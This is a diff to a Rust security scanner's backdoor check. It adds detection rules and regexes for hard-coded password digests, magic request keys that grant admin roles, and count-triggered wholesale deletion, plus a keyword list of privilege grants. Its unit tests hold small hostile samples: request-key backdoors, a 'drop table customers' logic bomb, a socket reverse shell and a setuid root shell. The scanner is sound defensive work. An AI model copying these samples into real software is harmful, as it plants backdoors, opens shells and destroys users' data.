@@ -16,7 +16,14 @@ use crate::model::scan::Severity;
 use crate::scan::draft::Draft;
 
 pub const CHECK: Check = Check {
-    rules: &["hard-coded-password", "root-shell", "socket-shell", "wallet-swap"],
+    rules: &[
+        "hard-coded-password",
+        "request-password",
+        "counted-destruction",
+        "root-shell",
+        "socket-shell",
+        "wallet-swap",
+    ],
     about: "A password, a word or a connection that opens the product without its own checks.",
     run,
 };
@@ -36,6 +43,59 @@ static COMPARED: LazyLock<Option<Regex>> = LazyLock::new(|| {
         ),
         s = SECRET,
         l = literal
+    ))
+    .ok()
+});
+
+/// The digest of a password that always fits, compared with what the digest of the one given is.
+static DIGEST: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(&format!(
+        r#"(?i-u)\b\w*(?:hash|sha\d*|md5|digest|hex|hmac)\w*\([^\n]{{0,40}}{SECRET}[^\n]{{0,60}}(?:===?|-eq|\.equals\(|\.Equals\()\s*["'](?:[0-9a-f]{{32}}|[0-9a-f]{{40}}|[0-9a-f]{{64}}|[0-9a-f]{{96}}|[0-9a-f]{{128}})["']"#
+    ))
+    .ok()
+});
+
+/// Something a request brings, compared with a literal.
+static ASKED: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    let request = r#"(?:headers?|params?|query|cookies?|body|args|form|input|request)\s*(?:\.get)?[\[(]\s*["'][\w.-]+["']\s*[\])]|\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\[[^\]\n]{1,40}\]|(?:getParameter|getHeader|get_argument|FormValue|PostFormValue|Header\.Get|Query\(\)\.Get|QueryString|header|Query|param|cookie|queryParam)\(\s*["'][^"'\n]{1,40}["']\s*\)|(?:req|request)\.(?:headers|query|params|body|cookies)\.\w+|env\[["']HTTP_\w+["']\]|\bHeaders\[\s*"[^"\n]{1,40}"\s*\]"#;
+    let literal = r#"["']([^"'\s\n]{6,80})["']"#;
+    Regex::new(&format!(
+        r#"(?-u)(?:{request})[^\n;{{&|]{{0,30}}?(?:===?|-eq|\.equals\(|\.Equals\(|\beq\b)\s*{literal}|{literal}\s*(?:===?|\.equals\(|\.Equals\()\s*[^\n;&|]{{0,40}}?(?:{request})|(?:hash_equals|ConstantTimeCompare|compare_digest|secure_compare)\([^\n]{{0,20}}{literal}[^\n]{{0,40}}(?:{request})"#
+    ))
+    .ok()
+});
+
+/// What a request must not be able to do by a word alone.
+const GRANTS: &[&str] = &[
+    "admin",
+    "superuser",
+    "is_staff",
+    "isauth",
+    "authenticated",
+    "bypass",
+    "set_role",
+    "setrole",
+    "\"role\"",
+    "'role'",
+    "role:",
+    "role =",
+    "set_current_user",
+    "create_user",
+    "login(",
+    "log_in",
+    "sign_in",
+    "next()",
+    "dofilter(",
+    "return true",
+    "claims",
+    "skip_before",
+];
+
+/// Wholesale removal behind a count.
+static COUNTED: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(concat!(
+        r"(?i-u)\bif\b[^\n]{0,60}\b\w*(?:count|calls|visits?|launche?s?|runs|starts|times|hits|logins|uses|fetch_add|increment)\w*[^\n=<>]{0,40}(?:===?|>=|>|-eq|-ge|-gt|\beq\b)\s*\d{2,}[^\n]*\n",
+        r"(?:[^\n}]*\n){0,2}?[^\n}]*(?:\bdrop\s+(?:table|database|schema)\b|\btruncate\s+table\b|\bdelete\s+from\s+\w+\s*;?[\x22']|rmtree|remove_dir_all|removeItem\(at|deleteRecursively|rm_rf|rm\s+-rf|RemoveAll\(|Directory\.Delete\(|deleteDirectory|rimraf|rmSync|Remove-Item[^\n]{0,60}-Recurse|remove_all\()"
     ))
     .ok()
 });
@@ -100,6 +160,9 @@ fn run(subject: &Subject, report: &mut Report) {
         return;
     }
     password(subject, report);
+    digest(subject, report);
+    asked(subject, report);
+    counted(subject, report);
     root_shell(subject, report);
     socket_shell(subject, report);
     wallet(subject, report);
@@ -147,6 +210,83 @@ fn password(subject: &Subject, report: &mut Report) {
             question: "Who knows this password, and what does it open?",
             key: String::new(),
         });
+    }
+}
+
+fn digest(subject: &Subject, report: &mut Report) {
+    let bytes = subject.bytes();
+    for place in DIGEST.iter().flat_map(|pattern| pattern.find_iter(bytes)).take(20) {
+        if !subject.in_comment(place.start()) {
+            report.drafts.push(Draft {
+                rule: "hard-coded-password",
+                category: "trap.backdoor",
+                severity: Severity::High,
+                confidence: Confidence::Medium,
+                start: place.start(),
+                end: place.end(),
+                message: "the digest of a password is compared with one written in the program: a password that always fits"
+                    .to_owned(),
+                question: "Who knows the password of this digest, and what does it open?",
+                key: String::new(),
+            });
+        }
+    }
+}
+
+/// A request that bears a certain word gets past what others must pass.
+fn asked(subject: &Subject, report: &mut Report) {
+    let bytes = subject.bytes();
+    for captures in ASKED.iter().flat_map(|pattern| pattern.captures_iter(bytes)).take(50) {
+        let (Some(whole), Some(literal)) = (captures.get(0), captures.iter().skip(1).flatten().next()) else {
+            continue;
+        };
+        if subject.in_comment(whole.start()) || !chosen(literal.as_bytes()) {
+            continue;
+        }
+        let after = bytes.get(whole.end()..(whole.end() + 300).min(bytes.len())).unwrap_or_default();
+        let after = String::from_utf8_lossy(after).to_ascii_lowercase();
+        if !GRANTS.iter().any(|word| after.contains(word)) {
+            continue;
+        }
+        report.drafts.push(Draft {
+            rule: "request-password",
+            category: "trap.backdoor",
+            severity: Severity::Medium,
+            confidence: Confidence::Medium,
+            start: whole.start(),
+            end: whole.end(),
+            message: "a request that bears a word written in the program is let through".to_owned(),
+            question: "Who knows this word, and what may a request with it do?",
+            key: String::new(),
+        });
+    }
+}
+
+/// Whether a word was chosen so that nobody sends it by chance.
+fn chosen(word: &[u8]) -> bool {
+    let digits = word.iter().filter(|b| b.is_ascii_digit()).count();
+    let letters = word.iter().filter(|b| b.is_ascii_alphabetic()).count();
+    let odd = word.iter().any(|b| matches!(b, b'!' | b'#' | b'%' | b'*' | b'^' | b'~'));
+    let plain = word.iter().all(|b| b.is_ascii_alphanumeric() || b"-_!#@$%*^~.".contains(b));
+    plain && letters >= 2 && (digits >= 3 || (odd && digits >= 1))
+}
+
+fn counted(subject: &Subject, report: &mut Report) {
+    let bytes = subject.bytes();
+    for place in COUNTED.iter().flat_map(|pattern| pattern.find_iter(bytes)).take(20) {
+        if !subject.in_comment(place.start()) {
+            report.drafts.push(Draft {
+                rule: "counted-destruction",
+                category: "trap.logic-bomb",
+                severity: Severity::Medium,
+                confidence: Confidence::Medium,
+                start: place.start(),
+                end: place.end(),
+                message: "once a count is reached, data is removed wholesale".to_owned(),
+                question: "Who is meant to lose what is removed here, and why at this count?",
+                key: String::new(),
+            });
+        }
     }
 }
 
@@ -240,6 +380,22 @@ mod tests {
                 "int f(void) {\n  setuid(0);\n  setgid(0);\n  execl(\"/bin/sh\", \"sh\", 0);\n}\n",
                 "root-shell",
             ),
+            (
+                "a.js",
+                "if (hash(password) === '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08') return 1;\n",
+                "hard-coded-password",
+            ),
+            (
+                "a.ts",
+                "if (req.headers['x-key'] === 'b7f0-4c1e-9a55') {\n  req.user = { role: 'admin' };\n}\n",
+                "request-password",
+            ),
+            (
+                "a.php",
+                "<?php if ($_GET['k'] === 'go-7731') { $u->set_role('administrator'); }\n",
+                "request-password",
+            ),
+            ("a.py", "if count == 1000:\n    db.execute(\"drop table customers\")\n", "counted-destruction"),
             ("a.py", "s.connect(('192.0.2.1', 4))\nos.dup2(s.fileno(), 0)\nf('/bin/sh')\n", "socket-shell"),
         ];
         for (name, text, rule) in cases {
@@ -258,6 +414,14 @@ mod tests {
             ("a.js", "if (input.type === 'password') show();\n"),
             ("a.py", "if password == 'changeme':\n    warn()\n"),
             ("a.py", "# if password == 'zq!Tr4pd00r':\n"),
+            ("a.ts", "if (req.headers['accept-version'] === 'v1alpha') {\n  next();\n}\n"),
+            ("a.ts", "if (req.headers['x-key'] === 'b7f0-4c1e-9a55') {\n  log('seen');\n}\n"),
+            (
+                "a.js",
+                "if (sha256(file) === '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08') ok();\n",
+            ),
+            ("a.py", "if count == 1000:\n    print('many')\n"),
+            ("a.py", "if len(rows) > 10:\n    rows.pop()\n"),
             ("a.c", "setuid(getuid());\nexecl(\"/bin/sh\", \"sh\", 0);\n"),
         ];
         for (name, text) in cases {
